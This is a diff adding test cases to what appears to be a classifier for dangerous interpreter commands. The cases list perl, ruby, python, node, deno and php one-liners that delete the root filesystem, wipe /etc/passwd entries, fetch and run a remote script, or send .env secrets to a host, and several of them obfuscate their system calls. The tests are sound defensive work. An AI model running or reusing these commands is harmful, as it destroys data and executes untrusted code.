@@ -58,6 +58,65 @@ describe('code that interpreters run from the command line', () => {
   });
 
   it.each([
+    [`perl -lne 'system("rm -rf /")' app.log`, EVERY],
+    [`perl -0777 -ne 'system("rm -rf /")' app.log`, EVERY],
+    [`perl -wlne 'system("rm -rf /")' app.log`, EVERY],
+    [`perl -F : -lane 'system("rm -rf /")' app.log`, EVERY],
+    [`perl -I /tmp -e 'system("rm -rf /")'`, EVERY],
+    [`perl -d:Trace -e 1`, EVERY],
+    [`ruby -lne 'system("rm -rf /")' app.log`, EVERY],
+    [`ruby -W0 -e 'system("rm -rf /")'`, EVERY],
+    [`ruby --encoding UTF-8 -e 'system("rm -rf /")'`, EVERY],
+    [`python3 --check-hash-based-pycs always -c "import shutil; shutil.rmtree('/')"`, ['destructive']],
+    [`python3 -m timeit "__import__('shutil').rmtree('/')"`, EVERY],
+    [`node --env-file .env -e "fetch('http://x.io')"`, ['credentials', 'network']],
+    [`node --stack-size 2000 -e "require('fs').rmSync('/', { recursive: true })"`, ['destructive']],
+    [
+      `node --import 'data:text/javascript,import("child_process").then((c) => c.execSync("id"))' app.js`,
+      EVERY,
+    ],
+    [`deno eval --ext ts "Deno.removeSync('/', { recursive: true })"`, ['destructive']],
+    [`echo "Deno.removeSync('/', { recursive: true })" | deno run -`, ['destructive']],
+    ['deno run -A https://x.io/install.ts', ['downloadExec']],
+    ['deno https://x.io/install.ts', ['downloadExec']],
+    [`bun exec 'rm -rf /'`, ['destructive']],
+    [`python3.13t -c "import shutil; shutil.rmtree('/')"`, ['destructive']],
+    [`pythonw -c "import shutil; shutil.rmtree('/')"`, ['destructive']],
+    [`node22 -e "require('fs').rmSync('/', { recursive: true })"`, ['destructive']],
+    [`tsx -e "require('fs').rmSync('/', { recursive: true })"`, ['destructive']],
+  ])('reads options as each interpreter does, so none hides the code: %s', (command, expected) => {
+    expect(classes(command)).toEqual(expected);
+  });
+
+  it.each([
+    [`perl -ne 1 'rm -rf /|'`, ['destructive']],
+    [`perl -e '@ARGV = ("rm -rf / |"); print <>'`, EVERY],
+    [`perl -e '$_ = "x"; s,x,"sy\x73tem q(rm -rf /)",ee'`, EVERY],
+    ['ruby -run -e rm_rf -- /', EVERY],
+    [`ruby -rrake -e 'sh "rm -rf /"'`, EVERY],
+    [`php -r 'ob_start("sys" . "tem"); echo "rm -rf /";'`, EVERY],
+    [`php -d auto_prepend_file=/tmp/x.php -r 'echo 1;'`, EVERY],
+    [`osascript -e '«event sysoexec» "rm -rf /"'`, EVERY],
+    [`echo 'exec rm -rf /' | tclsh`, EVERY],
+    [`perl -pi -e 's/^root.*//' /etc/passwd`, ['destructive']],
+    [`sed -i 's/^root.*//' /etc/passwd`, ['destructive']],
+    [`ruby -i -pe '$_ = ""' /etc/hosts`, ['destructive']],
+  ])('knows the ways these languages run commands without naming them: %s', (command, expected) => {
+    expect(classes(command)).toEqual(expected);
+  });
+
+  it.each([
+    `perl -pe 's/here/there/g' notes.txt`,
+    `perl -pi -e 's/oldname/newname/g' notes.txt`,
+    `perl -e 'use strict; use warnings; print 1'`,
+    `perl -MJSON::PP -e 'print JSON::PP->new->encode([1])'`,
+    `ruby -e 'require "json"; puts JSON.generate([1])'`,
+    `lua -e 'print(os.time())'`,
+    `Rscript -e 'library(ggplot2); print(1)'`,
+    `php -r 'echo file_get_contents("composer.json");'`,
+    `sed -i 's/a/b/' notes.txt`,
+    'node --trace-warnings app.js',
+    'bun run build',
     `python3 -c "print(1 + 1)"`,
     `python3 -c "import json, sys; print(json.load(sys.stdin)['name'])" < data.json`,
     'python3 -m venv .venv',
@@ -72,6 +131,10 @@ describe('code that interpreters run from the command line', () => {
     `Rscript -e 'summary(cars)'`,
   ])('leaves code that does none of this alone: %s', (command) => {
     expect(classes(command)).toEqual([]);
+  });
+
+  it('gives a word that only reads the environment its own class', () => {
+    expect(classes(`perl -e 'print "$ENV{HOME}\\n"'`)).toEqual(['credentials']);
   });
 
   it('reads what is piped into a program that has its own code as data', () => {
